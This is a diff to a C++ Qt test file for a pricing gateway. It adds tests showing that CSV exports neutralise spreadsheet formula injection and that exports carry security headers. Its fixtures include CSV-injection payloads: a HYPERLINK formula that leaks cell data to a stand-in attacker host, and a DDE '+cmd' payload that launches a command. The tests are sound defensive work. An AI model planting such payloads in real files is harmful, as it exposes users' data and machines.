@@ -7,6 +7,7 @@
 #include <QFile>
 #include <QJsonArray>
 #include <QJsonDocument>
+#include <QMap>
 #include <QNetworkReply>
 #include <QRandomGenerator>
 #include <QRegularExpression>
@@ -26,6 +27,9 @@ private Q_SLOTS:
     void exportEqualsTheRegistryUnderRandomEdits();
     void htmlExportIsSelfContainedStyledAndLocalised();
     void marginsFlagPricesBelowCostAndCostsStayPrivate();
+    void csvCellsCannotBeFormulas();
+    void exportsCarryTheirSecurityHeaders_data();
+    void exportsCarryTheirSecurityHeaders();
 
 private:
     QJsonObject channel();
@@ -457,6 +461,123 @@ void TestPricing::marginsFlagPricesBelowCostAndCostsStayPrivate()
         m_gateway.adminHeaders(), QJsonDocument(edited).toJson());
     QCOMPARE(bad.status, 400);
     QVERIFY(bad.body.contains("upstream_cost.input_micros_per_mtok"));
+}
+
+namespace {
+
+// RFC 4180 records: quoted cells may hold commas, quotes ("") and line breaks.
+QList<QStringList> parseCsv(const QByteArray &bytes)
+{
+    const QString text = QString::fromUtf8(bytes);
+    QList<QStringList> records;
+    QStringList record;
+    QString cell;
+    bool quoted = false;
+    for (qsizetype i = 0; i < text.size(); ++i) {
+        const QChar c = text[i];
+        if (quoted) {
+            if (c == u'"' && i + 1 < text.size() && text[i + 1] == u'"') {
+                cell += c;
+                ++i;
+            } else if (c == u'"') {
+                quoted = false;
+            } else {
+                cell += c;
+            }
+        } else if (c == u'"') {
+            quoted = true;
+        } else if (c == u',') {
+            record << cell;
+            cell.clear();
+        } else if (c == u'\n' || c == u'\r') {
+            if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n')
+                ++i;
+            record << cell;
+            records << record;
+            record.clear();
+            cell.clear();
+        } else {
+            cell += c;
+        }
+    }
+    if (!cell.isEmpty() || !record.isEmpty())
+        records << (record << cell);
+    return records;
+}
+
+} // namespace
+
+// OWASP CSV injection: names an operator gives (a channel name, model names) that a spreadsheet
+// would run as formulas are written as text, prefixed with '; the prices beside them stay numbers.
+void TestPricing::csvCellsCannotBeFormulas()
+{
+    const QString hyperlink = QStringLiteral("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")");
+    QJsonObject channel = mockChannel(hyperlink, m_mock.url(),
+        {{QStringLiteral("@SUM(1+1)"), QStringLiteral("mock-model")},
+            {QStringLiteral("-2+3"), QStringLiteral("mock-model")},
+            {QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("mock-model")}});
+    const QJsonObject created = m_gateway.addChannel(m_http, channel);
+    QVERIFY(!created.isEmpty());
+    const HttpResult csv
+        = m_http.get(m_gateway.url() + QStringLiteral("/admin/pricing/export?format=csv"), m_gateway.adminHeaders());
+    QCOMPARE(csv.status, 200);
+    const QList<QStringList> records = parseCsv(csv.body);
+    QCOMPARE(records.first().value(2), QStringLiteral("channel_name"));
+    QMap<QString, QStringList> byModel;
+    for (const QStringList &r : records) {
+        if (r.value(1) == created.value(QStringLiteral("id")).toString())
+            byModel.insert(r.value(0), r);
+    }
+    QCOMPARE(byModel.keys(),
+        QStringList({QStringLiteral("'+cmd|' /C calc'!A0"), QStringLiteral("'-2+3"), QStringLiteral("'@SUM(1+1)")}));
+    for (const QStringList &r : std::as_const(byModel)) {
+        QCOMPARE(r.value(2), QStringLiteral("'") + hyperlink);
+        QCOMPARE(r.mid(3, 4),
+            QStringList({QStringLiteral("3000000"), QStringLiteral("15000000"), QStringLiteral("3750000"),
+                QStringLiteral("300000")}));
+    }
+    // The raw bytes: the formula's quotes doubled inside a quoted cell, never a bare = at a cell start.
+    QVERIFY(csv.body.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\""));
+    QVERIFY(
+        !csv.body.contains(",=") && !csv.body.contains(",@") && !csv.body.contains(",+") && !csv.body.contains(",-"));
+    QCOMPARE(
+        m_http
+            .send("DELETE",
+                m_gateway.url() + QStringLiteral("/admin/channels/") + created.value(QStringLiteral("id")).toString(),
+                m_gateway.adminHeaders())
+            .status,
+        200);
+}
+
+void TestPricing::exportsCarryTheirSecurityHeaders_data()
+{
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<bool>("html");
+    QTest::newRow("json") << QStringLiteral("/admin/pricing/export?format=json") << false;
+    QTest::newRow("json by default") << QStringLiteral("/admin/pricing/export") << false;
+    QTest::newRow("csv") << QStringLiteral("/admin/pricing/export?format=csv") << false;
+    QTest::newRow("html") << QStringLiteral("/admin/pricing/export?format=html") << true;
+    QTest::newRow("html, de") << QStringLiteral("/admin/pricing/export?format=html&locale=de") << true;
+}
+
+// Every export says nosniff; the html page (an inline <style>, no script) carries a policy that
+// allows that style and nothing else.
+void TestPricing::exportsCarryTheirSecurityHeaders()
+{
+    QFETCH(QString, path);
+    QFETCH(bool, html);
+    const HttpResult r = m_http.get(m_gateway.url() + path, m_gateway.adminHeaders());
+    QCOMPARE(r.status, 200);
+    QCOMPARE(r.header("x-content-type-options"), QByteArray("nosniff"));
+    if (html) {
+        QCOMPARE(r.header("content-security-policy"),
+            QByteArray("default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action"
+                       " 'none'; frame-ancestors 'none'"));
+        QVERIFY(r.body.contains("<style>"));
+        QVERIFY(!r.body.contains("<script"));
+    } else {
+        QVERIFY(r.header("content-security-policy").isEmpty());
+    }
 }
 
 QTEST_GUILESS_MAIN(TestPricing)
